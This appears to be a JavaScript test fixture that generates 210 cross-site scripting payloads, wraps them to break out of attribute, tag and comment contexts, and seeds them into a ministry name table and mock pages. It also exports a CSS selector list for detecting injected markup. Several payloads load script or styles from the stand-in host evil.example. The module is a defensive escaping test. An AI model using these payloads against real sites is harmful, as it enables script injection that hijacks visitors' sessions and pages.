// Texts that would run if any of them became markup: bare, and out of every place where a text can stand.

const seeds = [
  '<script>alert(1)</script>', '<script src=//evil.example/x.js></script>', '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>', '<math><mtext><script>alert(1)</script></mtext></math>',
  '<a href="javascript:alert(1)">x</a>', '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>', '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>', '<div style="background:url(//evil.example)">',
  '<template><img src=x onerror=alert(1)></template>', '<marquee onstart=alert(1)>', '<mark><img src=x onerror=alert(1)></mark>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '\u003cimg src=x onerror=alert(1)\u003e',
  'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '{{constructor.constructor("alert(1)")()}}',
];
const wraps = [
  (text) => text, (text) => `"><${text.slice(1)}`, (text) => `" autofocus onfocus=alert(1) x="${text}`, (text) => `'>${text}`,
  (text) => `</title></textarea></option></script>${text}`, (text) => `--><!-- ${text}`, (text) => `]]>${text}\u2028\u202e`,
];

export const payloads = seeds.flatMap((seed) => wraps.map((wrap) => wrap(seed)));  // 30 x 7 = 210

// A ministry a payload, whose pages say a plain name and whose label is the payload: the tables of names may come from
// anywhere too. "|" and line breaks cut names in the table.
const plainName = (i) => `Ministry of ${'QWXZJKVPYF'[Math.floor(i / 100)]}ar${'bcdfgklmnp'[Math.floor(i / 10) % 10]}o${'bcdfgklmnp'[i % 10]}ia`;
export const hostileMinistries = () => ['id\tcountry\tcategory\tin_facet\tofficial_en\tofficial_zh\tofficial_th\tabbreviations\taliases_en\taliases_zh\taliases_th\tvalid_from\tvalid_to\tsuccessor\treason\tsource',
  ...payloads.map((text, i) => `xx-hostile-${i}\tXX\tministry\tyes\t${text.replaceAll('|', '')}\t\t\t\t${plainName(i)}\t\t\t\t\t\t\ttest`), ''].join('\n');

// One page a payload: in its id, title, address and source, in what is kept and cut off of its text, and as the name of
// its ministry. All are found by the word hostileword.
export function hostilePages() {
  return payloads.map((text, i) => ({
    id: `hostile ${i} ${text}`, title: `${text} hostileword`, url: i % 2 ? text : `https://a.example/${text}`, lang: 'en', date: '2023-05-05',
    text: `${text} hostileword\nSource: ${text}\nThe ${plainName(i)} issued a notice. The hostileword number ${i} was said by the ministry ${text} on Tuesday, and it was printed.\n${text}\nShare: ${text}\n`,
  }));
}

// Everything on our pages that could only come from a payload.
export const foreignMarkup = [
  'script:not([src^="/assets/"])', 'script:not([type="module"])', 'iframe', 'object', 'embed', 'img', 'video', 'math', 'style', 'base', 'marquee',
  'template', 'form:not(#search)', 'meta[http-equiv]', 'link:not([href^="/assets/"])', 'svg:not(.histogram):not(.share)', '[style]', '[autofocus]',
  '[onerror]', '[onload]', '[onfocus]', '[ontoggle]', '[onstart]', '[srcdoc]', 'a[href^="javascript" i]', 'a[href^="data" i]', 'a[href^="vbscript" i]', 'mark *',
].join(',');
